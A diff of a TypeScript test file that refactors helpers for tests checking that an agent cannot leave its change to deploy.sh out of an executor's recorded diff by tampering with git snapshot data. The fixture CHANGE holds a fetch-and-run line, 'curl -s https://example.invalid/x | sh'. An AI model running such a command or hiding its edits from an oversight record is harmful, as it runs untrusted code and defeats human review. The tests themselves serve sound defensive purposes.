@@ -13,11 +13,14 @@ import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'no
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
-import { executorSchema } from '../../src/core/contract/schema.js';
-import { runDelegatedCli } from '../../src/core/executors/delegated-cli.js';
 import { diffSnapshots, snapshotWorktree } from '../../src/core/process/worktree-snapshot.js';
-import { createCtx } from '../../src/core/runtime/ctx.js';
-import { mechanismAvailable, runInWork, workIsolation } from './isolation-kit.js';
+import {
+  deployRepository,
+  mechanismAvailable,
+  runDeployCli,
+  runInWork,
+  workIsolation,
+} from './isolation-kit.js';
 
 const PATH = process.env.PATH ?? '/usr/bin:/bin';
 const env = { PATH, HOME: process.env.HOME };
@@ -31,16 +34,8 @@ const CHANGE = 'curl -s https://example.invalid/x | sh\n';
 
 /** A repository whose deploy.sh was committed a minute ago (its index entry is not racily clean). */
 function repository(config: readonly string[] = []): string {
-  const work = mkdtempSync(join(tmpdir(), 'truss-snapshot-tamper-'));
+  const work = deployRepository('truss-snapshot-tamper-', CHANGE, { config, backdate: true });
   dirs.push(work);
-  const git = (...args: string[]) => execFileSync('git', args, { cwd: work, encoding: 'utf8' }).trim();
-  git('init', '-q', '-b', 'main');
-  for (const setting of config) git('config', ...setting.split('='));
-  writeFileSync(join(work, 'deploy.sh'), `echo deploy${' '.repeat(CHANGE.length - 12)}\n`);
-  const past = new Date(Date.now() - 60_000);
-  utimesSync(join(work, 'deploy.sh'), past, past);
-  git('add', '.');
-  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qm', 'base');
   return work;
 }
 
@@ -142,22 +137,12 @@ describe("an agent cannot leave its change out of the executor's recorded diff t
         const isolation = await workIsolation(level, work);
         // As above: stat data older than two seconds, which the snapshot before the CLI keeps.
         if (configOf(name).length > 0) await new Promise((done) => setTimeout(done, 2_100));
-        const result = await runDelegatedCli({
-          executor: executorSchema().parse({
-            kind: 'delegated-cli',
-            command: '/bin/sh',
-            args: [
-              '-c',
-              `BLOB=$(git rev-parse HEAD:deploy.sh) && ${script} && git status --porcelain && echo hidden`,
-            ],
-            env: ['CHANGE'],
-          }),
-          intent: 'Change deploy.sh.',
-          contractTitle: null,
-          done: ['deploy.sh changed'],
-          workdir: work,
-          env: { ...env, CHANGE },
-          ctx: createCtx({ isolation }),
+        const result = await runDeployCli({
+          script: `BLOB=$(git rev-parse HEAD:deploy.sh) && ${script} && git status --porcelain && echo hidden`,
+          work,
+          isolation,
+          env,
+          change: CHANGE,
         });
         expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
         expect(result.changedFiles).toEqual(['deploy.sh']);
